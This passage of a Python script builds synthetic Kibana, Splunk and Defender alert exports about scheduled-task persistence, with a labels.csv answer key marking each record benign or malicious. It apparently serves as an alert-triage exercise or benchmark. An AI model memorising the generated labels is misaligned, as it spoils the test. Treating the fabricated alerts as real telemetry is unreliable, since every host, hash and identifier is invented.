            records.append((F_ZIR, a, rule))
    return buf.getvalue()


# ---------------------------------------------------------------------------- Kibana Discover CSV
KIB_HEADER = ["@timestamp", "kibana.alert.rule.name", "kibana.alert.rule.rule_id", "kibana.alert.severity", "kibana.alert.risk_score",
              "kibana.alert.workflow_status", "kibana.alert.workflow_tags", "host.name", "host.os.type", "user.name", "user.domain", "user.id",
              "event.code", "event.action", "process.name", "process.executable", "process.command_line", "process.parent.name",
              "process.parent.executable", "process.parent.command_line", "winlog.event_data.TaskName", "winlog.event_data.TaskContent",
              "file.path", "kibana.alert.uuid"]


def kib_cell(v):
    v = "" if v is None else str(v)
    if v[:1] in ("=", "+", "-", "@"):
        v = "'" + v
    return '"' + v.replace('"', '""') + '"'


def kibana(records):
    rows = []
    for a in ACTS:
        if "kib" in sources(a["host"]):
            for r in elastic_hits(a):
                rows.append((a, r))
    rows.sort(key=lambda x: (x[0]["t"], x[1]), reverse=True)  # Discover sorts @timestamp descending
    out = ["\ufeff" + ",".join('"%s"' % h for h in KIB_HEADER)]
    for a, r in rows:
        rid, sev, risk = ELASTIC[r]
        created = later(a["t"], 20, 300)
        linux = a["kind"] in ("lproc", "lfile")
        u = a["user"].split("\\")[-1]
        dom = "" if linux else (a["user"].split("\\")[0] if "\\" in a["user"] else DOM)
        cells = {
            "@timestamp": created.strftime("%b ") + str(created.day) + created.strftime(", %Y @ %H:%M:%S.") + "%03d" % (created.microsecond // 1000),
            "kibana.alert.rule.name": r, "kibana.alert.rule.rule_id": rid, "kibana.alert.severity": sev, "kibana.alert.risk_score": risk,
            "kibana.alert.workflow_status": "open", "kibana.alert.workflow_tags": "[]", "host.name": a["host"],
            "host.os.type": "linux" if linux else "windows", "kibana.alert.uuid": hid("alert", a["n"], r, n=64),
        }
        if a["kind"] == "task":
            cells.update({"user.name": u, "user.domain": dom, "user.id": sid_of(u), "event.code": "4698", "event.action": "scheduled-task-created",
                          "winlog.event_data.TaskName": a["task"], "winlog.event_data.TaskContent": task_xml(a, a["t"])})
        elif a["kind"] in ("proc",):
            cells.update({"user.name": "SYSTEM" if a["user"] == SYSTEM else u, "user.domain": "NT AUTHORITY" if a["user"] == SYSTEM else dom,
                          "user.id": sid_of(a["user"]), "event.action": "start", "process.name": basename(a["image"]), "process.executable": a["image"],
                          "process.command_line": a["cmd"], "process.parent.name": basename(a["parent"]), "process.parent.executable": a["parent"],
                          "process.parent.command_line": a["pcmd"]})
        elif a["kind"] == "lproc":
            cells.update({"user.name": u, "event.action": "exec", "process.name": basename(a["image"]), "process.executable": a["image"],
                          "process.command_line": a["cmd"], "process.parent.name": a["parent"].split("/")[-1], "process.parent.executable": a["parent"],
                          "process.parent.command_line": a["pcmd"]})
        else:
            cells.update({"user.name": u, "event.action": "creation", "process.name": a["image"].split("/")[-1], "process.executable": a["image"],
                          "process.command_line": a.get("pcmd", ""), "file.path": a["path"]})
        out.append(",".join(kib_cell(cells.get(h, "")) for h in KIB_HEADER))
        records.append((F_KIB, a, r))
    return "\n".join(out) + "\n"


# ---------------------------------------------------------------------------- Splunk ES notables CSV
SPL_HEADER = ["_time", "rule_name", "rule_title", "search_name", "security_domain", "severity", "urgency", "status_label", "owner", "event_id",
              "orig_time", "dest", "user", "parent_process_name", "parent_process", "process_name", "process", "process_path", "TaskName",
              "TaskContent", "file_path", "file_name", "annotations.mitre_attack", "count", "firstTime", "lastTime"]
URG = {"Windows Schtasks Create Run As System": "medium", "Suspicious Scheduled Task from Public Directory": "medium",
       "WinEvent Scheduled Task Created to Spawn Shell": "medium", "Svchost LOLBAS Execution Process Spawn": "medium",
       "Schtasks scheduling job on remote system": "medium", "Scheduled Task Initiation on Remote Endpoint": "medium"}


def splunk(records):
    rows = []
    for a in ACTS:
        if "spl" in sources(a["host"]):
            for r in escu_hits(a):
                rows.append((a, r))
    rows.sort(key=lambda x: (x[0]["t"], x[1]), reverse=True)  # Incident Review: newest first
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(SPL_HEADER)
    for a, r in rows:
        t = a["t"]
        notable_t = later(t, 60, 900)
        d = {"_time": notable_t.strftime("%Y-%m-%dT%H:%M:%S.") + "%03d+00:00" % (notable_t.microsecond // 1000),
             "rule_name": r, "rule_title": "%s on %s" % (r, a["host"]), "search_name": "ESCU - %s - Rule" % r,
             "security_domain": "endpoint", "severity": "medium" if URG.get(r) else "low", "urgency": URG.get(r, "low"),
             "status_label": "New", "owner": "unassigned",
             "event_id": "%s@@notable@@%s" % (guid("notable", a["n"], r).upper(), hid("nh", a["n"], r)),
             "orig_time": "%d.%06d" % (int(t.timestamp()), t.microsecond), "dest": a["host"] + ("" if a["host"].startswith("kl-lx") else "." + DNS),
             "annotations.mitre_attack": "T1053.003" if a["kind"] in ("lproc", "lfile") else "T1053.005", "count": 1,
             "firstTime": t.strftime("%Y-%m-%dT%H:%M:%S"), "lastTime": t.strftime("%Y-%m-%dT%H:%M:%S")}
        if a["kind"] == "proc":
            d.update({"user": a["user"], "parent_process_name": basename(a["parent"]), "parent_process": a["pcmd"],
                      "process_name": basename(a["image"]), "process": a["cmd"], "process_path": a["image"]})
        elif a["kind"] == "task":
            d.update({"user": "%s\\%s" % (DOM, subject(a)), "TaskName": a["task"], "TaskContent": task_xml(a, t)})
        elif a["kind"] == "lproc":
            d.update({"user": a["user"], "parent_process_name": a["parent"].split("/")[-1], "parent_process": a["pcmd"],
                      "process_name": a.get("image_name", a["image"].split("/")[-1]), "process": a["cmd"], "process_path": a["image"]})
        else:
            d.update({"user": a["user"], "file_path": a["path"], "file_name": a["path"].split("/")[-1]})
        w.writerow([d.get(h, "") for h in SPL_HEADER])
        records.append((F_SPL, a, r))
    return buf.getvalue()


# ---------------------------------------------------------------------------- Defender alerts API
MDE_DESC = {
    "Suspicious scheduled task": "A scheduled task was created that runs a program from an unusual location or with unusual privileges. Attackers use scheduled tasks to persist on a device.",
    "Suspicious Task Scheduler activity": "A process used the Task Scheduler to register a task with characteristics often seen in malicious persistence.",
    "Suspicious PowerShell command line": "A suspicious PowerShell command line was observed. It might be an attempt to download or run malicious code.",
}


def mde(records):
    alerts = []
    for a in ACTS:
        if "mde" in a and "mde" in sources(a["host"]):
            alerts.append(a)
    alerts.sort(key=lambda a: a["t"], reverse=True)
    value = []
    for a in alerts:
        title, sev, cat = a["mde"]
        t = a["t"]
        created = later(t, 120, 600)
        img = a["image"]
        pimg = a["parent"]
        ev = [{"entityType": "Process", "evidenceCreationTime": iso(created, 2) + "Z", "sha1": hid("sha1", img, n=40), "sha256": hid("sha256", img, n=64),
               "fileName": basename(img), "filePath": img[:img.rfind("\\")], "processId": 1000 + int(hid("pid", a["n"], n=4), 16) % 30000,
               "processCommandLine": a["cmd"], "processCreationTime": iso(t, 7) + "Z", "parentProcessId": 1000 + int(hid("ppid", a["n"], n=4), 16) % 30000,
               "parentProcessCreationTime": iso(later(t, -30, -1) if False else t - dt.timedelta(seconds=4), 7) + "Z",
               "parentProcessFileName": basename(pimg), "parentProcessFilePath": pimg[:pimg.rfind("\\")], "ipAddress": None, "url": None,
               "registryKey": None, "registryHive": None, "registryValueType": None, "registryValue": None, "accountName": None, "domainName": None,
               "userSid": None, "aadUserId": None, "userPrincipalName": None, "detectionStatus": "Detected"},
              {"entityType": "User", "evidenceCreationTime": iso(created, 2) + "Z", "sha1": None, "sha256": None, "fileName": None, "filePath": None,
               "processId": None, "processCommandLine": None, "processCreationTime": None, "parentProcessId": None, "parentProcessCreationTime": None,
               "parentProcessFileName": None, "parentProcessFilePath": None, "ipAddress": None, "url": None, "registryKey": None, "registryHive": None,
               "registryValueType": None, "registryValue": None, "accountName": "SYSTEM", "domainName": "NT AUTHORITY", "userSid": "S-1-5-18",
               "aadUserId": None, "userPrincipalName": None, "detectionStatus": None}]
        value.append({
            "id": "da%d_%d" % (638700000000000000 + int(hid("mdeid", a["n"], n=10), 16) % 10**14, -int(hid("mdeid2", a["n"], n=7), 16)),
            "incidentId": 7100 + int(hid("inc", a["host"], title, n=4), 16) % 2000, "investigationId": None, "assignedTo": None,
            "severity": sev, "status": "New", "classification": None, "determination": None, "investigationState": "PendingApproval" if sev == "Medium" else "UnsupportedAlertType",
            "detectionSource": "WindowsDefenderAtp", "detectorId": guid("detector", title), "category": cat, "threatFamilyName": None,
            "title": title, "description": MDE_DESC[title], "alertCreationTime": iso(created, 7) + "Z", "firstEventTime": iso(t, 7) + "Z",
            "lastEventTime": iso(t, 7) + "Z", "lastUpdateTime": iso(later(created, 1, 30), 2) + "Z", "resolvedTime": None,
            "machineId": hid("machine", a["host"], n=40), "computerDnsName": "%s.%s" % (a["host"], DNS), "rbacGroupName": "Depot-Terminals",
            "aadTenantId": guid("tenant"), "threatName": None,
            "mitreTechniques": ["T1059.001"] if cat == "Execution" else ["T1053.005"],
            "relatedUser": {"userName": "SYSTEM", "domainName": "NT AUTHORITY"}, "comments": [], "evidence": ev})
        records.append((F_MDE, a, title))
    return json.dumps({"@odata.context": "https://api.securitycenter.microsoft.com/api/$metadata#Alerts", "value": value}, indent=4, ensure_ascii=False) + "\n"


def main():
    check_rubric()
    records = []
    last = START + dt.timedelta(days=14)
    late = [a["scenario"] for a in ACTS if not START <= a["t"] < last]
    assert not late, late
    texts = {F_ZIR: zircolite(records), F_KIB: kibana(records), F_SPL: splunk(records), F_MDE: mde(records)}
    for name, text in texts.items():
        with open(os.path.join(HERE, name), "w", encoding="utf-8", newline="") as f:
            f.write(text)
    counters = {}
    lines = ["source_file,record_no,verdict,notes,scenario"]
    for f, a, rule in records:
        n = counters.get(f, 0)
        counters[f] = n + 1
        lines.append("%s,%d,%s,%s,%s" % (f, n, a["verdict"], notes_for(rule, a), a["scenario"].replace(",", ";")))
    with open(os.path.join(HERE, "labels.csv"), "w", encoding="utf-8", newline="") as f:
        f.write("\n".join(lines) + "\n")
    mal = sum(1 for _, a, _ in records if a["verdict"] == "malicious")
    noted = sum(1 for f, a, r in records if notes_for(r, a))
    for f in FILES:
        fm = sum(1 for g, a, _ in records if g == f and a["verdict"] == "malicious")
        print("%-32s %4d (%d benign / %d malicious)" % (f, counters.get(f, 0), counters.get(f, 0) - fm, fm))
    print("total %d, malicious %d (%.1f %%), benign with notes %d" % (len(records), mal, 100.0 * mal / len(records), noted))


if __name__ == "__main__":
    main()
